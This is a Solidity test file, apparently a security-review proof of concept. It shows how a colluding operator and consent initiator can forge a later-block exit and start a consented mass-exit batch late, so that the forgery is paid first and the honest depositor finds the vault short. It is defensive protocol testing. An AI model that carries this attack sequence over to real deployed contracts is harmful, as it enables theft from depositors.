// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {MassExitTestBase} from "../utils/MassExitTestBase.sol";
import {TxEncoder} from "../utils/TxEncoder.sol";
import {MassExitGame} from "../../src/games/MassExitGame.sol";
import {CompressedProof} from "../../src/lib/CompressedProof.sol";

/// @notice Review PoC (fails on purpose while the fault stands). Claim under attack (docs/protocol.md 7.2): with
///         the block bound "every output beside the consented one is of a block the owner vouched for ... and
///         its priority is no later than that of any exit from a later block", so an owner who consents with
///         maxBlock = the last block she holds valid is paid in full.
///         The bound limits which outputs share the batch, not when the batch starts: the initiator the consent
///         names chooses the start time anywhere up to the deadline. Started more than MEP after a forged later
///         block, the batch is exitable at now + MEP, later than the forgery's blockTimestamp + 2·MEP, so the
///         forgery is paid first and the batch finds the vault short. The batch here holds ONLY the consented
///         output: nothing else the initiator adds is needed.
contract ConsentLateStartTest is MassExitTestBase {
    address internal ian; // the initiator alice consented to (colluding with the operator)
    address internal mallory; // the operator's accomplice, owner of the forged output

    function setUp() public override {
        super.setUp();
        ian = makeAddr("ian");
        mallory = makeAddr("mallory");
        vm.deal(ian, 10 ether);
        vm.deal(mallory, 10 ether);
    }

    function test_attack_consentedBatchStartedLate_isQueuedBehindAForgeryOfALaterBlock() public {
        // alice deposits 1 ETH and consents for ian, vouching for every block that exists (her deposit's);
        // the deadline is the tests' usual 7 days (MEP is 1 day)
        (uint256 d, bytes memory t, Included memory inc) = _depositEth(alice, 1 ether);
        MassExitGame.MassExitItem memory consented = _depositItem(d, t, inc);
        _consentTo(consented, aliceKey, ian, d / 1e9);

        // the operator forges 1 ETH for mallory in the next child block, later than alice's bound
        vm.warp(block.timestamp + 10);
        bytes memory forged = TxEncoder.payment(999e9, mallory, address(0), 1 ether);
        Included memory finc = _submitOne(forged);
        uint256 fpos = finc.blkNum * 1e9;
        assertTrue(finc.blkNum > consented.consentMaxBlock, "the forgery is of a block alice did not vouch for");
        vm.prank(mallory);
        fw.startStandardExit{value: BOND}(fpos, forged, finc.proof, finc.timestamp);

        // ian waits a little over MEP, still well before alice's deadline, and starts a batch of alice's
        // output alone: every output of it is of a block <= maxBlock, so the bound lets it through
        vm.warp(finc.timestamp + MEP + 1);
        assertTrue(block.timestamp < consented.consentDeadline, "the consent is still valid");
        MassExitGame.MassExitItem[] memory items = new MassExitGame.MassExitItem[](1);
        items[0] = consented;
        uint256 batchId = _startMass(ian, address(0), items);

        (,,,, uint256 batchExitableAt,,) = massGame.massExits(batchId);
        uint256 forgeryExitableAt = finc.timestamp + 2 * MEP;

        // the forgery is processed first and the vault is short for the batch
        vm.warp(batchExitableAt);
        fw.processExits(address(0), 10);
        MassExitGame.MassExitLeaf[] memory leaves = new MassExitGame.MassExitLeaf[](1);
        leaves[0] = _depositLeaf(d, alice, 1 ether);
        uint256 alice0 = alice.balance;
        massGame.withdrawMassExit(batchId, leaves);
        assertEq(alice.balance, alice0 + 1 ether, "alice's honest, consented deposit is paid in full");
        // the claim: the batch's priority is no later than that of any exit from a later block
        assertLe(batchExitableAt, forgeryExitableAt, "batch queued no later than the forged block's exit");
    }
}
